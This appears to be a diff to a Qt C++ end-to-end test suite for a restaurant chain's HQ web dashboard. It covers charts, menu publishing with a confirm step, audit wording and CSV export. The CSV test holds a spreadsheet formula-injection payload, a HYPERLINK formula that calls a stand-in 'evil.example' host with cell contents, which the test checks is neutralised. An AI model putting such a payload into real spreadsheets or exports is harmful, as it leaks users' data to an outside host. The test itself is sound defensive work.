@@ -45,6 +45,8 @@ private slots:
 private:
     void placeOrder(int table, qint64 item, int quantity);
     void shoot(const QString &name);
+    /// "Save and publish" shows what will change first; its button publishes.
+    void confirmPublish();
     qint64 edgePrice(qint64 itemId);
     /// The newest menu HQ published for the store, exactly as the linked edge receives it
     /// (MenuUpdate.menu_json of /sync/v1/menu).
@@ -105,6 +107,13 @@ void TestDashboard::shoot(const QString &name)
     QVERIFY2(m_browser.screenshot(dir + u'/' + name + u".png"_s), qPrintable(m_browser.errorString()));
 }
 
+void TestDashboard::confirmPublish()
+{
+    QVERIFY2(m_browser.waitFor(u"document.querySelector('#publish-confirm')"_s),
+             qPrintable(m_browser.evaluate(u"document.querySelector('#menu-status').textContent"_s).toString()));
+    m_browser.evaluate(u"document.querySelector('#publish-confirm').click(); true"_s);
+}
+
 qint64 TestDashboard::edgePrice(qint64 itemId)
 {
     const QJsonObject menu = m_edgeHttp.get(u"/api/v1/menu"_s).json();
@@ -148,8 +157,33 @@ void TestDashboard::overviewShowsTheStoreOnlineWithTodaysOrders()
 void TestDashboard::storePageDrawsCharts()
 {
     m_browser.evaluate(u"location.hash = '#/store/1'; true"_s);
-    QVERIFY2(m_browser.waitFor(u"document.querySelectorAll('#hourly rect').length === 24 && document.querySelectorAll('#top-items rect').length >= 3"_s),
+    const QString hourly = u"ChartKit.describe(document.querySelector('#hourly'))"_s;
+    QVERIFY2(m_browser.waitFor(hourly + u".state === 'ready' && ChartKit.describe(document.querySelector('#top-items')).datasets[0].values.length >= 3"_s),
              qPrintable(m_browser.errorString()));
+    // The business day's 24 hours from the 04:00 cutoff; hours still ahead are gaps, not ₩0;
+    // the money axis in round won steps. (The hour of the business day in Seoul, the demo
+    // store's zone, read before and after: the page may have drawn on either side of an hour.)
+    const auto businessHour = [] { return (QDateTime::currentDateTimeUtc().addSecs(9 * 3600).time().hour() - 4 + 24) % 24; };
+    const int before = businessHour();
+    const QJsonObject chart = m_browser.evaluate(hourly).toObject();
+    const int after = businessHour();
+    const QJsonArray values = chart.value(u"datasets"_s).toArray().first().toObject().value(u"values"_s).toArray();
+    QCOMPARE(values.size(), 24);
+    for (int i = 0; i < 24; ++i) {
+        if (i <= std::min(before, after))
+            QVERIFY2(!values.at(i).isNull(), qPrintable(u"hour %1 of the business day"_s.arg(i)));
+        else if (i > after)
+            QVERIFY2(values.at(i).isNull(), qPrintable(u"hour %1 of the business day"_s.arg(i)));
+    }
+    const QString roundWon = uR"((d => { const v = d.y.map(s => Number(s.replace(/[₩,]/g, ''))); const step = v[1] - v[0];
+        return d.y.length >= 2 && d.y.every(s => /^₩[0-9,]+$/.test(s)) && /^[125]0*$/.test(String(step))
+            && v.every((x, i) => x === i * step); }))"_s;
+    QVERIFY2(m_browser.evaluate(roundWon + u"(%1)"_s.arg(hourly)).toBool(),
+             qPrintable(QString::fromUtf8(QJsonDocument(chart.value(u"y"_s).toArray()).toJson(QJsonDocument::Compact))));
+    // No order is cooked yet: the prep-time trend says "no data" instead of drawing zeros.
+    QVERIFY(m_browser.waitFor(u"document.querySelector('#prep').dataset.state === 'empty'"_s));
+    QCOMPARE(m_browser.evaluate(u"document.querySelector('#prep .chart-empty').textContent"_s).toString(), u"데이터 없음"_s);
+    QCOMPARE(m_browser.evaluate(u"document.querySelectorAll('#prep canvas').length"_s).toInt(), 0);
     shoot(u"dashboard-store"_s);
 }
 
@@ -251,7 +285,7 @@ void TestDashboard::kitchenTimesPageShowsTheSlowestDishFirst()
     const QJsonArray items = report.value(u"items"_s).toArray();
 
     m_browser.evaluate(u"location.hash = '#/kitchen'; true"_s);
-    QVERIFY2(m_browser.waitFor(u"document.querySelectorAll('#kitchen-items tr.kitchen-item').length === %1 && document.querySelectorAll('#kitchen-chart rect').length === %1"_s.arg(items.size())),
+    QVERIFY2(m_browser.waitFor(u"document.querySelectorAll('#kitchen-items tr.kitchen-item').length === %1 && document.querySelector('#kitchen-chart').dataset.points === '%1'"_s.arg(items.size())),
              qPrintable(m_browser.evaluate(u"document.body.innerText"_s).toString()));
     // The table is HQ's rows in HQ's order (per store, slowest first), names as text.
     for (int i = 0; i < items.size(); ++i) {
@@ -331,7 +365,7 @@ void TestDashboard::moneyAndAuditShowWhatTheStoreRecorded()
         QCOMPARE(m_browser.evaluate(cell.arg(date, method)).toString(), wonText(methods.value(method).toInteger()));
     QCOMPARE(m_browser.evaluate(u"document.querySelector('#methods-total').textContent"_s).toString(),
              wonText(report.value(u"paid"_s).toInteger()));
-    QVERIFY(m_browser.waitFor(u"document.querySelectorAll('#methods-chart rect').length === 4"_s));
+    QVERIFY(m_browser.waitFor(u"ChartKit.describe(document.querySelector('#methods-chart')).datasets[0].values.length === 4"_s));
     m_browser.evaluate(u"document.querySelector('#days-card').scrollIntoView(); true"_s);
     shoot(u"dashboard-reports-payments"_s);
 
@@ -345,6 +379,9 @@ void TestDashboard::moneyAndAuditShowWhatTheStoreRecorded()
     QVERIFY2(voidText.contains(reason), qPrintable(voidText));
     QVERIFY(m_browser.evaluate(u"document.querySelectorAll('#audit-table b').length === 0"_s).toBool());
     QVERIFY(m_browser.evaluate(u"document.querySelector('#audit-table').innerText.includes('manager')"_s).toBool());
+    // The kitchen's actions in words too, never the event's type.
+    QVERIFY(m_browser.evaluate(u"[...document.querySelectorAll('.audit-row td:nth-child(4)')].every(td => !/^[a-z_]+\\.[a-z_]+$/.test(td.textContent))"_s).toBool());
+    QVERIFY(m_browser.evaluate(u"[...document.querySelectorAll('.audit-row[data-type=\"order.lines_done\"] .audit-detail')].some(td => td.textContent.length > 0)"_s).toBool());
     shoot(u"dashboard-audit"_s);
 }
 
@@ -399,6 +436,7 @@ void TestDashboard::priceEditReachesTheEdge()
     QVERIFY(m_browser.waitFor(u"document.querySelector('[name=price-1]')"_s));
     m_browser.evaluate(uR"(const input = document.querySelector('[name=price-1]');
                            input.value = '9900'; document.querySelector('#menu-save').click(); true)"_s);
+    confirmPublish();
     QTRY_COMPARE_WITH_TIMEOUT(edgePrice(1), 9900, 5'000);
 }
 
@@ -431,6 +469,7 @@ void TestDashboard::newItemWithPictureReachesTheEdge()
                                10'000),
              qPrintable(m_browser.evaluate(u"document.querySelector('#menu-status').textContent"_s).toString()));
     m_browser.evaluate(u"document.querySelector('#menu-save').click(); true"_s);
+    confirmPublish();
 
     QString url;
     QTRY_VERIFY_WITH_TIMEOUT(([&] {
@@ -509,6 +548,7 @@ void TestDashboard::optionGroupEditorPublishes()
         details.querySelector('.item-hours').value = '1-5 11:00-14:00';
         return true; })())"_s);
     m_browser.evaluate(u"document.querySelector('#menu-save').click(); true"_s);
+    confirmPublish();
 
     // Saved at HQ: the working menu carries all of it.
     QJsonObject item;
@@ -586,6 +626,7 @@ void TestDashboard::categoryTranslationsAndHoursReachTheEdge()
         box.querySelector('.cat-hours').value = '6,7 10:00-22:00';
         document.querySelector('#menu-save').click();
         return true; })())"_s);
+    confirmPublish();
 
     QJsonObject category;
     QTRY_VERIFY_WITH_TIMEOUT(([&] {
@@ -744,7 +785,9 @@ void TestDashboard::csvExportNeutralisesFormulas()
         { key: '\tTAB', orders: 5, total: 0 },
         { key: '\rCR', orders: 6, total: 0 },
         { key: '김치찌개 "special"', orders: 7, total: 9000 }]))"_s).toString();
-    const QStringList lines = csv.split(u'\n');
+    // Excel's line ends (CRLF), the last line ended too.
+    QVERIFY(csv.endsWith(u"\r\n"_s));
+    const QStringList lines = csv.chopped(2).split(u"\r\n"_s);
     QCOMPARE(lines.size(), 8);
     QCOMPARE(lines.at(0), uR"("key","orders","total")"_s);
     QCOMPARE(lines.at(1), uR"csv("'=HYPERLINK(""http://evil.example/?""&A1)","1","1000")csv"_s);
